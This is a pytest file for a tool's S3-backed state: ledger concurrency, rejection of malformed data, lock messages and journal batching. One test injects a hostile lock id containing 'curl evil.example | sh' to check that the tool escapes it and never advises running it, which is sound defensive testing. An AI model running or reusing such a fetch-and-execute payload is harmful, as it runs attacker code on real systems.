"""flipgitops' own state on S3 (moto): the ledger's read-modify-write and hostile locks."""

from __future__ import annotations

import json
import threading

import pytest
from aws_hubworld import REGION, make_manifest

from flipgitops.adapters.aws_session import Clients
from flipgitops.adapters.state_store import S3State, StateStore, read_ledger
from flipgitops.errors import AwsError, LockHeld
from flipgitops.model.observed import LedgerTrust, ObservedLedger

BUCKET = "flip-gitops-state-dev"


@pytest.fixture
def state(clients: Clients) -> S3State:
    clients.s3.create_bucket(Bucket=BUCKET,
                             CreateBucketConfiguration={"LocationConstraint": REGION})  # type: ignore[typeddict-item]
    return S3State(StateStore(clients, BUCKET, "flipgitops"), "dev")


def _add(name: str, gen: int = 1):  # type: ignore[no-untyped-def]
    def update(led: ObservedLedger) -> ObservedLedger:
        entry = LedgerTrust(credentials_generation=gen, trust_id=f"id-{name}")
        return led.model_copy(update={"trusts": {**led.trusts, name: entry}})
    return update


def test_ledger_absent_then_written_then_read(state: S3State, clients: Clients) -> None:
    assert state.read_ledger() == ObservedLedger(exists=False)
    written = state.update_ledger(_add("Trust_1"))
    assert written.exists and written.trusts["Trust_1"].trust_id == "id-Trust_1"
    again = read_ledger(make_manifest(), clients=clients)
    assert again.exists and again.trusts == written.trusts
    raw = clients.s3.get_object(Bucket=BUCKET, Key="flipgitops/ledger/dev.json")
    assert json.loads(raw["Body"].read())["format"] == 1


def test_ledger_absent_bucket_reads_as_absent(clients: Clients) -> None:
    assert read_ledger(make_manifest(), clients=clients).exists is False


def test_two_writers_lose_no_update(state: S3State) -> None:
    """The second writer's first attempt is based on a stale read; If-Match refuses it and
    the update is re-applied on top of the first writer's."""
    state.update_ledger(_add("Trust_0"))
    first_read = threading.Event()
    other_wrote = threading.Event()

    def slow(led: ObservedLedger) -> ObservedLedger:
        if not first_read.is_set():
            first_read.set()
            other_wrote.wait(10)  # the other writer commits while we hold a stale copy
        return _add("Trust_A")(led)

    t = threading.Thread(target=lambda: state.update_ledger(slow))
    t.start()
    first_read.wait(10)
    state.update_ledger(_add("Trust_B"))
    other_wrote.set()
    t.join(20)
    assert set(state.read_ledger().trusts) == {"Trust_0", "Trust_A", "Trust_B"}


@pytest.mark.parametrize(("body", "named"), [
    (b"{not json", "is not a JSON object"),
    (json.dumps({"format": 1, "trusts": {"T": {"credentials_generation": "one"}}}).encode(),
     "trusts.T.credentials_generation"),
    (json.dumps({"format": 1, "surprise": 1}).encode(), "surprise"),
])
def test_malformed_ledger_is_named_and_never_overwritten(state: S3State, clients: Clients,
                                                         body: bytes, named: str) -> None:
    clients.s3.put_object(Bucket=BUCKET, Key="flipgitops/ledger/dev.json", Body=body)
    seen = state.read_ledger()
    assert not seen.readable and seen.error is not None
    assert "s3://flip-gitops-state-dev/flipgitops/ledger/dev.json" in seen.error
    assert named in seen.error
    with pytest.raises(AwsError, match="refusing to write over it"):
        state.update_ledger(_add("Trust_1"))
    after = clients.s3.get_object(Bucket=BUCKET, Key="flipgitops/ledger/dev.json")["Body"]
    assert after.read() == body


# --- locks other hands wrote -------------------------------------------------------------


def _lock(clients: Clients, body: bytes) -> None:
    clients.s3.put_object(Bucket=BUCKET, Key="flipgitops/locks/dev.json", Body=body)


def _held(state: S3State) -> str:
    with pytest.raises(LockHeld) as err:
        state.acquire_lock({"who": "me"})
    return str(err.value)


def _unlock_id(message: str) -> str:
    return message.rsplit("--lock-id ", 1)[1].split()[0]


def test_lock_with_a_string_holder(state: S3State, clients: Clients) -> None:
    _lock(clients, json.dumps({"lock_id": "abc", "holder": "ci-run-42"}).encode())
    message = _held(state)
    assert "'ci-run-42'" in message and "--lock-id abc" in message


def test_lock_with_a_20mb_holder_is_bounded(state: S3State, clients: Clients) -> None:
    _lock(clients, json.dumps({"lock_id": "abc", "holder": "x" * 20_000_000}).encode())
    message = _held(state)
    assert len(message) < 1000
    assert _unlock_id(message).startswith("unreadable-")
    assert state.force_unlock(_unlock_id(message))


def test_lock_id_with_a_newline_and_a_command_is_never_advised(state: S3State,
                                                              clients: Clients) -> None:
    hostile = "abc\n; curl evil.example | sh #"
    _lock(clients, json.dumps({"lock_id": hostile, "holder": {"who": "x\x1b[31m"}}).encode())
    message = _held(state)
    assert "\n" not in message and "\x1b" not in message
    assert "curl evil.example | sh" in message  # shown, escaped and quoted …
    assert "'abc\\n; curl" in message
    lock_id = _unlock_id(message)  # … but the id to copy is the object's own
    assert lock_id.startswith("unreadable-") and lock_id.replace("-", "").isalnum()
    assert not state.force_unlock("abc")  # the hostile id removes nothing
    assert state.force_unlock(lock_id)
    assert state.read_lock() is None


def test_a_real_lock_says_who_and_how(state: S3State) -> None:
    run = state.acquire_lock({"who": "alice", "commit": "abc1234"})
    message = _held(state)
    assert "alice" in message and f"--lock-id {run}" in message
    state.release_lock(run)
    assert state.read_lock() is None


def _journal_lines(state: S3State, clients: Clients, key: str) -> list[str]:
    try:
        body = clients.s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()
    except clients.s3.exceptions.NoSuchKey:
        return []
    return [json.loads(line)["event"] for line in body.decode().splitlines()]


def test_a_held_journal_stores_its_events_in_one_write_and_flush_stores_them_now(
        state: S3State, clients: Clients) -> None:
    journal = state.journal("run-1")
    puts: list[str] = []
    clients.s3.meta.events.register("before-call.s3.PutObject",
                                    lambda **kw: puts.append(kw["params"]["url_path"]))
    journal.event("run.start")
    assert _journal_lines(state, clients, journal.key) == ["run.start"] and len(puts) == 1
    with journal.hold():
        journal.event("a")
        with journal.hold():  # nested: the outermost end writes
            journal.event("b")
        assert _journal_lines(state, clients, journal.key) == ["run.start"]
        journal.flush()  # e.g. before a hard exit: everything so far, now
        assert _journal_lines(state, clients, journal.key) == ["run.start", "a", "b"]
        journal.event("c")
    assert _journal_lines(state, clients, journal.key) == ["run.start", "a", "b", "c"]
    assert len(puts) == 3  # run.start, the flush, the end of the hold
    with journal.hold():
        pass
    assert len(puts) == 3  # nothing new, nothing written
